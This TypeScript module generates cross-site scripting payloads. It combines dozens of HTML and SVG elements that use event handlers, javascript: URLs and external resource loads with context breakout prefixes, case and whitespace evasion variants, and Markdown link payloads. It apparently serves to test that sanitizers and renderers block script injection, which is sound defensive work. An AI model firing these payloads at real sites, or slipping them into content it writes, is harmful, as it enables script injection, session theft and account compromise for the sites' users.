/** What a text tries in order to run something, or to have something fetched, wherever it is shown. */
export interface PayloadParts {
  /** A script that leaves a trace. */
  script: string;
  /** An address whose server notes who asks. */
  address: string;
}

const elements = ({ script, address }: PayloadParts): string[] => [
  `<script>${script}</script>`,
  `<script src="${address}"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src="${address}">`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><use href="${address}#x"></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  `<math href="javascript:${script}">x</math>`,
  `<details open ontoggle="${script}">x</details>`,
  `<video autoplay src="${address}" onloadstart="${script}"></video>`,
  `<audio src="${address}" onerror="${script}" autoplay></audio>`,
  `<video><source onerror="${script}"></video>`,
  `<input autofocus onfocus="${script}">`,
  `<select autofocus onfocus="${script}"></select>`,
  `<body onload="${script}">`,
  `<div style="animation: x 1s" onanimationstart="${script}"><style>@keyframes x {}</style></div>`,
  `<div style="background: url(${address})">x</div>`,
  `<style>@import '${address}';</style>`,
  `<link rel=stylesheet href="${address}">`,
  `<link rel=prefetch href="${address}">`,
  `<base href="${address}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<form action="javascript:${script}"><button autofocus>x</button></form>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="&#106;avascript:${script}">x</a>`,
  `<a href="java\tscript:${script}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<template><script>${script}</script></template>`,
  `<table background="${address}"><tr><td>x</td></tr></table>`,
];

const markdown = ({ script, address }: PayloadParts): string[] => [
  `[x](javascript:${script})`,
  `[x](JaVaScRiPt:${script})`,
  `[x](data:text/html,<script>${script}</script>)`,
  `[x](vbscript:${script})`,
  `![x](${address})`,
  `![x](javascript:${script})`,
  `<javascript:${script}>`,
  `[![x](${address})](javascript:${script})`,
  `[x][y]\n\n[y]: javascript:${script}`,
];

/** Ways out of the place that a text is put into. */
const escapes = ['', '">', "'>", '-->', '</script>', '</textarea>', '</title>', '</style>', ']]>', '`}}'];

const spellings: ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/<\/?[a-z]+/g, (tag) =>
      tag.replace(/[a-z]/g, (c, at: number) => (at % 2 ? c.toUpperCase() : c)),
    ),
  (text) => text.replace(/<([a-z]+) /g, '<$1\n'),
  (text) => text.replace(/<([a-z]+) /g, '<$1/'),
];

/** Every attempt: each element, behind each way out, in each spelling, and what Markdown knows. Equal ones once. */
export function hostilePayloads(parts: PayloadParts): string[] {
  const made = elements(parts).flatMap((element) =>
    escapes.flatMap((escape) => spellings.map((spell) => escape + spell(element))),
  );
  return [...new Set([...made, ...markdown(parts)])];
}
